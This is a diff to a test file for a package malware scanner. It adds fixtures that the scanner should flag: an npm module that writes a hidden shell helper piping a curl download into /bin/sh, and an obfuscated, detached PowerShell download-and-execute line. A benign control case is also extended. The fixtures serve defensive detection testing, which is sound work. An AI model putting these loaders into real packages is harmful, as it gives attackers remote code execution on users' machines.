@@ -3065,12 +3065,38 @@ require('https').request({ host: 'kc.example-sync.net', method: 'POST' }).end(JS
     expect(found.risk_level).not.toBe('clean');
     expect(threatsOf(found)).toContain('data_exfiltration');
   });
+  it('a helper script written at load that pipes a download into /bin/sh, which a launch agent runs', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'pasteboard', version: '1.4.0', main: 'index.js' }),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const helper = path.join(os.homedir(), 'Library', 'Application Support', '.pbsync', 'syncd.sh');
+fs.mkdirSync(path.dirname(helper), { recursive: true });
+fs.writeFileSync(helper, '#!/bin/sh\\ncurl -fsSL https://sync.example-cloud.net/agent | /bin/sh\\n', { mode: 0o755 });
+module.exports = { helper };`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('shell.download-pipe-shell');
+  });
+  it('a decoded PowerShell line that fetches a script with Start-BitsTransfer and runs its text with IEX, detached', () => {
+    const cmd = `powershell -NoP -W Hidden -C "Start-BitsTransfer -Source 'https://cdn.example-width.net/w.ps1' -Destination $env:TEMP\\wt.ps1; IEX (Get-Content $env:TEMP\\wt.ps1 -Raw)"`;
+    const codes = JSON.stringify([...cmd].reverse().map((ch) => ch.charCodeAt(0) + 7));
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'cell-width', version: '4.2.2', main: 'index.js' }),
+      'index.js': `const t = ${codes};
+const u = () => t.slice().reverse().map((c) => String.fromCharCode(c - 7)).join('');
+require('child_process').spawn(u(), { shell: true, windowsHide: true, detached: true, stdio: 'ignore' }).unref();`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('script.download-execute');
+  });
   it('quiet: a downloader that hands its environment to curl for the proxy settings, and a notifier that shows a dialog', () => {
     const found = analyzeSource({
       'package.json': JSON.stringify({ name: 'fetch-tool', version: '1.0.0', main: 'index.js' }),
       'index.js': `const { execFile, execFileSync } = require('child_process');
 exports.fetch = (url, out, cb) => execFile('curl', ['-fsSL', '-o', out, url], { env: { ...process.env, HTTPS_PROXY: process.env.HTTPS_PROXY || '' } }, cb);
-exports.notify = (msg) => execFileSync('osascript', ['-e', 'display dialog ' + JSON.stringify(msg) + ' buttons {"OK"}']);`,
+exports.notify = (msg) => execFileSync('osascript', ['-e', 'display dialog ' + JSON.stringify(msg) + ' buttons {"OK"}']);
+exports.completion = () => require('fs').writeFileSync(require('os').homedir() + '/.fetch-tool/complete.sh', '#!/bin/sh\\ncomplete -W "get put" fetch-tool\\n');
+exports.bits = (url, dest) => execFileSync('powershell', ['-NoP', '-C', 'Start-BitsTransfer -Source ' + url + ' -Destination ' + dest]);`,
     });
     expect(threatsOf(found)).toEqual([]);
   });
